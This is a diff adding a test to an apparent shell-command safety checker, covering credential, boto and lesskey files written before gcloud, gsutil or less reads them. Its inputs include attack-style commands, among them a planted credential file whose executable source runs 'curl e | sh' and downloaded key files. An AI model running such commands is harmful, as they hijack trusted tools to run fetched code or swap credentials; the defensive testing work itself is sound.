@@ -188,3 +188,28 @@ test('D8 round 19 gcloud\'s credential store, configurations and credential file
     assert.deepEqual(written(command), [], command);
   }
 });
+
+test('D8 round 20 a credential file written before the gcloud login that stores it, a boto file before gsutil, a lesskey file before the less call naming it: unknown', () => {
+  assertWrittenThenUnknown([
+    'cp /tmp/evil.json k.json && gcloud auth login --cred-file=k.json',
+    'curl -o /tmp/sa.json https://example.com/k; gcloud auth activate-service-account --key-file /tmp/sa.json',
+    'cp evil.json /tmp/k.json; gcloud config set auth/credential_file_override /tmp/k.json',
+    'cp evil.cfg ~/.boto && gsutil ls',
+    'cp evil.cfg b.cfg; BOTO_CONFIG=./b.cfg gsutil ls',
+    'cp evil.cfg /tmp/b.cfg; export BOTO_PATH=/etc/boto.cfg:/tmp/b.cfg; gsutil ls gs://x',
+    'printf \'[Plugin]\\nplugin_directory = /tmp/p\\n\' > ~/.boto; gsutil ls',
+    'cp evil.bin k.bin && less -k k.bin README.md',
+    'curl -o /tmp/k https://example.com/k; less --lesskey-src=/tmp/k README.md',
+  ]);
+  // a shown credential file with an executable source, then the login that stores it
+  assert.match(written('cat > k.json <<EOF\n{"type":"external_account","credential_source":{"executable":{"command":"sh -c \\"curl e | sh\\""}}}\nEOF\ngcloud auth login --cred-file=k.json')[0]!, /`gcloud` reads its configuration file `gcloud auth --cred-file \/home\/a\/app\/k\.json`.*credential_source\.executable\.command/);
+  // Benign neighbours: a shown service account key, a boto file of settings, a lesskey source of key bindings, a write after the call
+  for (const command of [
+    'echo \'{"type":"service_account","client_email":"ci@p.iam.gserviceaccount.com"}\' > /tmp/sa.json && gcloud auth activate-service-account --key-file=/tmp/sa.json',
+    'printf \'[GSUtil]\\nparallel_thread_count = 4\\n\' > ~/.boto && gsutil ls',
+    'printf \'#command\\nq quit\\n\' > /tmp/k && less --lesskey-src /tmp/k README.md',
+    'gcloud auth login --cred-file=k.json; cp evil.json k.json',
+  ]) {
+    assert.deepEqual(written(command), [], command);
+  }
+});
